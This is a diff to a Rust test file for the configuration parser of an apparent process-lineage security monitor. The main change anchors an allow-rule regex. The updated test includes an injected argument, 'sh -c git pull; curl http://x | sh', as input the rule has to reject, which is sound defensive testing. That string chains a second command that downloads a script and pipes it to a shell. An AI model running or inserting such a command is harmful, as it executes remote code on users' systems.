@@ -104,7 +104,7 @@ fn bad_values_each_name_their_key() {
     let ConfigError::Invalid { problems, .. } = err else {
         panic!("expected Invalid, got {err}");
     };
-    let keys: Vec<_> = problems.iter().map(|p| p.key).collect();
+    let keys: Vec<_> = problems.iter().map(|p| p.key.as_str()).collect();
     assert_eq!(
         keys,
         [
@@ -126,7 +126,7 @@ fn detector_sections_validate_each_key() {
     let ConfigError::Invalid { problems, .. } = err else {
         panic!("expected Invalid, got {err}");
     };
-    let keys: Vec<_> = problems.iter().map(|p| p.key).collect();
+    let keys: Vec<_> = problems.iter().map(|p| p.key.as_str()).collect();
     assert_eq!(
         keys,
         [
@@ -155,15 +155,15 @@ fn trust_ips_parse_addresses_and_cidrs() {
 
 #[test]
 fn lineage_allow_rules_are_checked() {
-    let c = parse("[[lineage.allow]]\nparent = \"node\"\nchild = \"sh\"\nargv = \"^sh -c git \"\n")
-        .unwrap();
-    assert!(
-        c.lineage.allow[0]
-            .argv
-            .as_ref()
-            .unwrap()
-            .is_match("sh -c git pull")
-    );
+    let c = parse(
+        "[[lineage.allow]]\nparent = \"node\"\nchild = \"sh\"\nargv = \"^sh -c git (pull|fetch)\"\n",
+    )
+    .unwrap();
+    let argv = c.lineage.allow[0].argv.as_ref().unwrap();
+    assert!(argv.is_match("sh -c git pull"));
+    // Anchored: the pattern covers the whole argument string.
+    assert!(!argv.is_match("sh -c git pull; curl http://x | sh"));
+    assert!(!argv.is_match("x; sh -c git pull"));
     let err = parse("[[lineage.allow]]\nparent = \"node\"\nchild = \"sh\"\nargv = \"(\"\n")
         .unwrap_err()
         .to_string();
@@ -201,7 +201,7 @@ fn switch_enforce_override_notify_are_checked() {
     let ConfigError::Invalid { problems, .. } = err else {
         panic!("expected Invalid, got {err}");
     };
-    let keys: Vec<_> = problems.iter().map(|p| p.key).collect();
+    let keys: Vec<_> = problems.iter().map(|p| p.key.as_str()).collect();
     assert_eq!(
         keys,
         [
